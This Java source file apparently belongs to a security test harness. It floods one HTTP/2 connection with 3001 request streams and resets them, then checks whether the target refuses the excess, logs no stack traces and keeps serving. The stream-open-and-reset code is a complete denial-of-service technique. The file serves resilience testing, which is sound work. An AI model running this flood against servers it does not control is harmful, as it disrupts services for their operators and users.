package io.quern.attacks;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/** Opens far more requests on one HTTP/2 connection than any client needs, then resets them all. */
final class Http2Streams implements Attack {
    private static final int STREAMS = 3001;
    private static final int SANE = 1000;

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int GOAWAY = 7;
    private static final int END_HEADERS = 4;
    private static final int MAX_CONCURRENT_STREAMS = 3;
    private static final int REFUSED_STREAM = 7;
    private static final int CANCEL = 8;

    /** The request {@code POST http /v1/completions localhost application/json} in HPACK, without the dynamic table. */
    private static final byte[] HEAD = ByteBuffer.allocate(60)
            .put(new byte[] {(byte) 0x83, (byte) 0x86, 0x04, 15})
            .put("/v1/completions".getBytes(StandardCharsets.US_ASCII))
            .put(new byte[] {0x01, 9})
            .put("localhost".getBytes(StandardCharsets.US_ASCII))
            .put(new byte[] {0x0f, 0x10, 16})
            .put("application/json".getBytes(StandardCharsets.US_ASCII))
            .array();

    private static final int HEAD_LENGTH = 4 + 15 + 2 + 9 + 3 + 16;

    @Override
    public String name() {
        return "http2-streams";
    }

    @Override
    public String tries() {
        return ("A client sends %d requests at once on one HTTP/2 connection, then resets them."
                        + " Most should be refused, and the log should have no stack trace.")
                .formatted(STREAMS);
    }

    @Override
    public Finding run(Target target) throws IOException {
        Victim victim = target.keyless();
        int traces = stackTraces(victim);
        long announced = -1;
        int refused = 0;
        boolean ended = false;
        try (Socket socket = victim.connect()) {
            OutputStream out = socket.getOutputStream();
            DataInputStream in = new DataInputStream(socket.getInputStream());
            out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            frame(out, SETTINGS, 0, 0, new byte[0], 0);
            out.flush();
            Thread writer = Thread.ofVirtual().start(() -> openAndReset(out));
            socket.setSoTimeout(1500);
            try {
                while (true) {
                    int lengthAndType = in.readInt();
                    int type = lengthAndType & 0xff;
                    in.readByte();
                    in.readInt();
                    byte[] payload = in.readNBytes(lengthAndType >>> 8);
                    ByteBuffer content = ByteBuffer.wrap(payload);
                    if (type == SETTINGS) {
                        while (content.remaining() >= 6) {
                            int id = content.getShort();
                            long value = content.getInt() & 0xffffffffL;
                            announced = id == MAX_CONCURRENT_STREAMS ? value : announced;
                        }
                    } else if (type == RST_STREAM && content.getInt() == REFUSED_STREAM) {
                        refused++;
                    } else if (type == GOAWAY) {
                        ended = true;
                    }
                }
            } catch (SocketTimeoutException quiet) {
                // No more answers come.
            } catch (IOException e) {
                ended = true;
            }
            writer.interrupt();
        }
        boolean served = victim.chat(Duration.ofSeconds(10)) == 200;
        int newTraces = stackTraces(victim) - traces;
        return Finding.of(
                announced > 0 && announced <= SANE && (ended || refused >= STREAMS - SANE) && newTraces == 0 && served,
                "MAX_CONCURRENT_STREAMS %s; %d of %d refused%s; %d lines of stack traces; served afterwards: %s",
                announced < 0 ? "not sent" : Long.toString(announced),
                refused,
                STREAMS,
                ended ? ", then the connection ended" : "",
                newTraces,
                served);
    }

    private static void openAndReset(OutputStream out) {
        try {
            for (int i = 0; i < STREAMS; i++) {
                frame(out, HEADERS, END_HEADERS, 2 * i + 1, HEAD, HEAD_LENGTH);
            }
            Thread.sleep(500);
            for (int i = 0; i < STREAMS; i++) {
                frame(out, RST_STREAM, 0, 2 * i + 1, new byte[] {0, 0, 0, CANCEL}, 4);
            }
        } catch (IOException | InterruptedException e) {
            // The engine has closed the connection.
        }
    }

    private static void frame(OutputStream out, int type, int flags, int stream, byte[] payload, int length)
            throws IOException {
        ByteBuffer frame = ByteBuffer.allocate(9 + length);
        frame.putInt(length << 8 | type).put((byte) flags).putInt(stream).put(payload, 0, length);
        out.write(frame.array());
    }

    private static int stackTraces(Victim victim) {
        return (int)
                victim.log().lines().filter(line -> line.startsWith("\tat ")).count();
    }
}
